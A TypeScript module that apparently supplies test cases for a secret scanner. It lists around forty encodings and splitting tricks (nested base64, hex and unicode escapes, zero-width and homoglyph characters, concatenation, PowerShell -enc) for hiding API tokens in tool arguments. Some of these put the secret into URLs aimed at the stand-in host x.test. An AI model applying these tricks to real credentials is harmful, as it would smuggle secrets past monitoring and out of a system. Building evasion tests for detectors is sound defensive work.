import type { Random } from "./random.ts";

/** A way to hide a credential from a scanner that reads plain text only. */
export interface Technique {
  readonly name: string;
  readonly hide: (value: string, random: Random) => unknown;
}

const hex = (value: string) =>
  Array.from(value, (c) => c.charCodeAt(0).toString(16).padStart(2, "0"));
const halves = (value: string, at = value.length >> 1) =>
  [value.slice(0, at), value.slice(at)] as const;
const base64url = (value: string) =>
  btoa(value).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
const LOOKALIKE: Readonly<Record<string, string>> = {
  a: "а",
  e: "е",
  o: "о",
  p: "р",
  c: "с",
  x: "х",
  A: "А",
  K: "К",
  h: "һ",
  s: "ѕ",
  i: "і",
};
const first = (value: string, n: number, fold: (char: string) => string) =>
  Array.from(value, (char, i) => i < n ? fold(char) : char).join("");

/** The techniques, each a realistic tool argument. */
export const TECHNIQUES: readonly Technique[] = [
  { name: "base64", hide: (v) => ({ command: `echo ${btoa(v)} | base64 -d` }) },
  {
    name: "base64 inside text",
    hide: (v) => ({ command: `echo '${btoa(`user=ci value=${v} end`)}' | base64 -d > x` }),
  },
  { name: "base64 twice", hide: (v) => ({ data: btoa(btoa(v)) }) },
  { name: "base64 three times", hide: (v) => ({ data: btoa(btoa(btoa(v))) }) },
  { name: "base64url", hide: (v) => ({ url: `https://x.test/?d=${base64url(`>>>???${v}`)}` }) },
  { name: "base64 after a path", hide: (v) => ({ url: `https://x.test/put/${base64url(v)}` }) },
  {
    name: "base64 wrapped",
    hide: (v) => ({
      content: btoa(`${"padding ".repeat(14)}${v}${" padding".repeat(9)}`).replace(
        /(.{76})/g,
        "$1\n",
      ),
    }),
  },
  {
    name: "base64 of UTF-16",
    hide: (v) => ({ command: `powershell -enc ${btoa(Array.from(v, (c) => c + "\0").join(""))}` }),
  },
  { name: "hex", hide: (v) => ({ command: `echo ${hex(v).join("")} | xxd -r -p` }) },
  {
    name: "hex escapes",
    hide: (v) => ({ command: `printf '${hex(v).map((h) => "\\x" + h).join("")}'` }),
  },
  {
    name: "unicode escapes",
    hide: (v) => ({ content: `{"v":"${hex(v).map((h) => "\\u00" + h).join("")}"}` }),
  },
  {
    name: "octal escapes",
    hide: (v) => ({
      command: `printf '${
        Array.from(v, (c) => "\\" + c.charCodeAt(0).toString(8).padStart(3, "0")).join("")
      }'`,
    }),
  },
  {
    name: "percent, all",
    hide: (v) => ({ url: `https://x.test/?v=${hex(v).map((h) => "%" + h).join("")}` }),
  },
  {
    name: "percent, some",
    hide: (v) => ({
      url: `https://x.test/?v=${first(v, 6, (c) => "%" + c.charCodeAt(0).toString(16))}`,
    }),
  },
  {
    name: "percent twice",
    hide: (v) => ({ url: `https://x.test/?v=${hex(v).map((h) => "%25" + h).join("")}` }),
  },
  {
    name: "html entities",
    hide: (v) => ({ content: `<p>${Array.from(v, (c) => `&#${c.charCodeAt(0)};`).join("")}</p>` }),
  },
  {
    name: "json in json",
    hide: (v) => ({ body: JSON.stringify(JSON.stringify({ inner: { v } })) }),
  },
  { name: "zero width", hide: (v) => ({ prompt: Array.from(v).join("\u200b") }) },
  {
    name: "soft hyphen and joiners",
    hide: (v) => ({ prompt: `use ${first(v, 12, (c) => c + "\u00ad\u2060")} now` }),
  },
  {
    name: "fullwidth",
    hide: (v) => ({
      prompt: first(
        v,
        99,
        (c) => c > " " && c <= "~" ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c,
      ),
    }),
  },
  {
    name: "homoglyphs in the mark",
    hide: (v) => ({ prompt: first(v, 8, (c) => LOOKALIKE[c] ?? c) }),
  },
  { name: "UTF-16 with NUL", hide: (v) => ({ content: Array.from(v, (c) => c + "\0").join("") }) },
  {
    name: "concatenation",
    hide: (v) => ({ new_string: `const v = "${halves(v)[0]}" + "${halves(v)[1]}";` }),
  },
  {
    name: "concatenation in the mark",
    hide: (v) => ({ new_string: `v = '${halves(v, 2)[0]}' + '${halves(v, 2)[1]}'` }),
  },
  {
    name: "concatenation over lines",
    hide: (v) => ({ new_string: `v = "${halves(v, 9)[0]}" +\n      "${halves(v, 9)[1]}";` }),
  },
  {
    name: "php and perl dots",
    hide: (v) => ({ new_string: `$v = '${halves(v)[0]}' . '${halves(v)[1]}';` }),
  },
  {
    name: "python juxtaposition",
    hide: (v) => ({ new_string: `v = ("${halves(v)[0]}"\n     "${halves(v)[1]}")` }),
  },
  {
    name: "shell quotes",
    hide: (v) => ({ command: `X="${halves(v, 3)[0]}"'${halves(v, 3)[1]}' ./run` }),
  },
  {
    name: "empty quotes",
    hide: (v) => ({ command: `echo ${halves(v, 2)[0]}""${halves(v, 2)[1]}` }),
  },
  {
    name: "line continuation",
    hide: (v) => ({ command: `echo ${halves(v)[0]}\\\n${halves(v)[1]}` }),
  },
  {
    name: "line wrap",
    hide: (v) => ({ content: `value ${halves(v)[0]}\n      ${halves(v)[1]} done` }),
  },
  {
    name: "array in code",
    hide: (v) => ({ new_string: `["${halves(v)[0]}", "${halves(v)[1]}"].join("")` }),
  },
  {
    name: "array elements",
    hide: (v) => ({ parts: [v.slice(0, 5), v.slice(5, 15), v.slice(15)] }),
  },
  { name: "sibling values", hide: (v) => ({ a: halves(v)[0], b: halves(v)[1] }) },
  { name: "character codes", hide: (v) => ({ codes: Array.from(v, (c) => c.charCodeAt(0)) }) },
  { name: "key name", hide: (v) => ({ headers: { [v]: "1" } }) },
  {
    name: "EXAMPLE beside it",
    hide: (v) => ({ command: `echo "${v} # EXAMPLE fake test key, not real"` }),
  },
  { name: "junk around it", hide: (v) => ({ text: `zz.${v}.zz` }) },
  {
    name: "base64 with escapes inside",
    hide: (v) => ({ data: btoa(`{"v":"${hex(v).map((h) => "\\u00" + h).join("")}"}`) }),
  },
  { name: "hex of base64", hide: (v) => ({ data: hex(btoa(v)).join("") }) },
];

/** Formats the techniques are tried on: marks of different shape and length. */
export const EVASION_FORMATS: readonly string[] = [
  "ghp_{b62:36}",
  "AKIA{b32:16}",
  "sk_live_{b62:24}",
  "glpat-{b64u:20}",
  "sk-ant-api03-{b64u:93}AA",
  "npm_{b62:36}",
];
